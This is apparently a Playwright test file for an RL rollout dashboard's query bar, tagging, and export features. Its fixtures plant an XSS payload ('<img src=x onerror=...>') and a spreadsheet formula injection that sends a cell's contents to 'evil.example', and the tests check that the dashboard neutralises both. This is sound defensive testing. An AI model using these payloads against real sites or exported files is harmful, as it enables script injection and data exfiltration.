"""The query bar, tags and notes, exported files: what is shown and saved, against pandas."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest
from playwright.sync_api import Locator, expect

from rlpanel.app.demo import write_recording
from tests.factories import append, line
from tests.ui.board import BoardPage, cells_of
from tests.ui.raw import raw_frame

PPO, ODD, SLOW = "couplets-ppo", "odd", "slow"
#: A pattern that is slow on each response of the slow run, and fast on the first run.
PATTERN = "/(?:a|b)+x?[cd]/"
PAYLOAD = "<img src=x onerror=window.pwned=1>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"nothing")'


@pytest.fixture(scope="module", autouse=True)
def runs(root: Path) -> None:
    write_recording("ppo_couplets", root / PPO)
    (root / ODD).mkdir()
    texts = ["a zebra", "a horse", f"{PAYLOAD} zebra", FORMULA]
    lines = [
        line(step, index=index, response=text, reward=step + index, ref_reward=9.0, prompt=f"p{index}",
             tokens=False, drop=["group"])
        for step in (1, 2, 3, 4)
        for index, text in enumerate(texts)
    ]  # fmt: skip
    append(root / ODD / "rollout_data_rank_0.jsonl", *lines)

    (root / SLOW).mkdir()
    slow = [line(1, index=at, response="a" * 400 if at else "ac", tokens=False) for at in range(4000)]
    append(root / SLOW / "rollout_data_rank_0.jsonl", *slow)


@pytest.fixture(scope="module")
def whole(root: Path) -> pd.DataFrame:
    """The PPO run as read by pandas."""
    return raw_frame(root / PPO)


def field(board: BoardPage) -> Locator:
    return board.page.get_by_label("filter expression")


def says(board: BoardPage) -> Locator:
    return board.page.locator(".rl-query .says span")


def choose(board: BoardPage, menu: str, entry: str) -> None:
    board.page.locator(".rl-query summary").get_by_text(menu).click()
    board.page.locator(".rl-query .list").get_by_role("button", name=entry, exact=True).click()


def test_a_filter_is_completed_asked_and_stands_in_the_address(board: BoardPage, whole: pd.DataFrame) -> None:
    board.go(run=PPO, step=9).settled(9)
    step = whole[whole.step == 9]
    wanted = step[(step.reward < 1.5) & (step.kl_k3 > step.kl_k3.quantile(0.3))]
    board.press("f")
    board.page.keyboard.type("reward < 1.5 and kl_k3_m")
    expect(board.page.locator(".rl-query li").first).to_contain_text("kl_k3_mean")
    board.press("Tab")
    board.page.keyboard.type("> p30")
    board.press("Enter")
    expect(board.count).to_have_text(f"{len(wanted)} of {len(step)} match")
    expect(says(board)).to_contain_text("kl_k3_mean p30 of step 9 =")
    assert [float(text) for text in board.column("reward")] == wanted.reward.tolist()[:20]
    expect(board.page).to_have_url(re.compile("filter=reward"))
    board.page.go_back()
    expect(board.count).to_have_text(f"{len(step)} of step 9")
    expect(field(board)).to_have_value("")


def test_a_misspelt_name_says_what_was_meant_and_hides_nothing(board: BoardPage) -> None:
    board.go(run=PPO, step=9, filter="rewad < 0").settled()
    expect(says(board)).to_contain_text("there is no column 'rewad'; did you mean reward")
    expect(board.count).to_have_text("64 of step 9")
    expect(field(board)).to_have_class("wrong")


def test_a_preset_finds_the_odd_ones_of_all_steps_and_they_open(
    board: BoardPage, whole: pd.DataFrame
) -> None:
    board.go(run=PPO, step=9).settled(9)
    board.page.get_by_role("button", name="all steps").click()
    choose(board, "Presets", "Lowest reward")
    lowest = whole.sort_values("reward", kind="stable")
    expect(board.count).to_contain_text(f"{len(whole):,} of all steps")
    board.until(lambda: board.column("step") == [str(step) for step in lowest.step[:20]])
    board.rows.nth(3).click()
    board.shows(lowest.uid.iloc[3])
    expect(board.step_label.locator("b")).to_have_text(f"Step {lowest.step.iloc[3]}")
    board.until(lambda: board.column("step") == [str(step) for step in lowest.step[:20]])


def test_a_click_between_two_cells_chooses_the_row(board: BoardPage, whole: pd.DataFrame) -> None:
    board.go(run=PPO, step=9).settled(9)
    cell = board.rows.nth(2).locator(".tabulator-cell:visible").nth(1)
    edge = board.until(cell.bounding_box)  # the table may be drawing its rows again
    board.page.mouse.click(edge["x"], edge["y"] + edge["height"] / 2)
    board.shows(whole[whole.step == 9].uid.iloc[2])


def test_a_text_is_found_in_all_steps_and_stays_text(board: BoardPage) -> None:
    board.go(run=ODD, step=2, scope="run", search="/^<img.*ZEBRA$|^a zeb/").settled()
    expect(board.count).to_have_text("4 of 16 match")
    board.search.fill("ZEBRA")
    board.search.press("Enter")
    expect(board.count).to_have_text("8 of 16 match")
    # The cell begins at the place that was found.
    assert (board.column("response").count("a zebra"), board.column("response").count("…zebra")) == (4, 4)
    board.search.fill(PAYLOAD)
    board.search.press("Enter")
    board.until(lambda: board.column("response") == [f"{PAYLOAD} zebra"] * 4)
    assert board.page.evaluate("window.pwned") is None


def test_a_csv_is_safe_to_open_unless_it_is_asked_for_raw(board: BoardPage) -> None:
    board.go(run=ODD, step=1).settled(1)
    for kind, text in {"CSV": f"'{FORMULA}", "CSV, raw": FORMULA}.items():
        with board.page.expect_download() as taken:
            choose(board, "Export", kind)
        assert taken.value.suggested_filename == f"{ODD}.csv"
        assert text in pd.read_csv(taken.value.path()).response.tolist(), kind


def test_a_sample_is_tagged_noted_copied_and_saved(board: BoardPage) -> None:
    board.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    board.go(run=ODD, step=3).settled(3)
    board.rows.nth(2).click()
    expect(board.sample_head).to_contain_text("line 11")
    uid = board.uid()
    tag = board.actions().get_by_label("tag of the sample")
    tag.fill("odd")
    tag.press("Tab")
    board.page.keyboard.type(f"see {PAYLOAD}")
    board.press("Enter")
    expect(board.rows.nth(2).locator(cells_of("note"))).to_have_text(f"see {PAYLOAD}")
    expect(tag).to_have_value("odd")
    board.go(run=ODD, filter="not missing(tag)", scope="run")
    expect(board.count).to_have_text("1 of 16 match")
    board.shows(uid)
    expect(board.page.get_by_label("note on the sample")).to_have_value(f"see {PAYLOAD}")
    for what, text in {"uid": uid, "response": f"{PAYLOAD} zebra"}.items():
        board.actions().get_by_role("button", name=what).click()
        board.until(lambda text=text: board.page.evaluate("navigator.clipboard.readText()") == text)
    with board.page.expect_download() as saved:
        board.actions().get_by_role("button", name="JSON").click()
    kept = json.loads(Path(saved.value.path()).read_bytes())
    assert (kept["response"], kept["reward"], kept["tag"]) == (f"{PAYLOAD} zebra", 5.0, "odd")
    assert board.page.evaluate("window.pwned") is None


def test_a_prompt_is_followed_over_the_steps(board: BoardPage) -> None:
    board.go(run=ODD, step=2).settled(2)
    board.tab("History")
    view = board.page.locator(".rl-over-time")
    expect(view.locator(".rl-over-time-note")).to_have_text("4 samples at 4 steps · mean reward 1 → 4")
    assert board.source("prompt-reward-means")["value"].tolist() == [1, 2, 3, 4]
    strip = view.locator(".rl-strip .tabulator-row")
    expect(strip).to_have_count(4)
    strip.nth(3).click()
    expect(board.sample_head).to_contain_text("step 4 ·")
    board.tab("Tokens")


@pytest.mark.slow
def test_a_long_search_says_how_far_it_is_and_stops_when_told_to(board: BoardPage) -> None:
    board.go(run=SLOW, step=1)
    # The search covers the lines that were read by then.
    expect(board.badge).to_contain_text("4,000 samples")
    board.go(run=SLOW, step=1, scope="run", search=PATTERN)
    expect(says(board)).to_contain_text("1 found so far")
    stop = board.page.locator(".rl-query").get_by_role("button", name="stop")
    stop.click()
    expect(says(board)).to_have_text("stopped; 1 found until then")
    expect(board.count).to_have_text("1 of 4,000 match")
    expect(stop).to_be_hidden()


@pytest.mark.slow
def test_what_is_found_is_taken_away_as_it_stands(board: BoardPage, whole: pd.DataFrame) -> None:
    wanted = whole[whole.reward < 1.5].sort_values("reward", ascending=False, kind="stable")
    board.go(run=PPO, step=9).settled(9)
    # The result covers the lines that were read by then.
    expect(board.badge).to_contain_text(f"{len(whole):,} samples")
    board.go(run=PPO, step=9, filter="reward < 1.5", scope="run", sort="-reward")
    expect(board.count).to_contain_text(f"{len(wanted):,} of {len(whole):,} match")
    for kind, read in {
        "CSV": pd.read_csv,
        "CSV, raw": pd.read_csv,
        "JSONL": lambda file: pd.read_json(file, lines=True),
        "parquet": pd.read_parquet,
    }.items():
        with board.page.expect_download() as taken:
            choose(board, "Export", kind)
        assert taken.value.suggested_filename == f"{PPO}.{kind.partition(',')[0].lower()}"
        found = read(io.BytesIO(Path(taken.value.path()).read_bytes()))
        assert found.uid.tolist() == wanted.uid.tolist()
        assert found.response.tolist() == wanted.response.tolist()
        assert found.kl_k3_mean.tolist() == pytest.approx(wanted.kl_k3.tolist())
    expect(says(board)).to_contain_text(f"parquet: {len(wanted):,} samples")
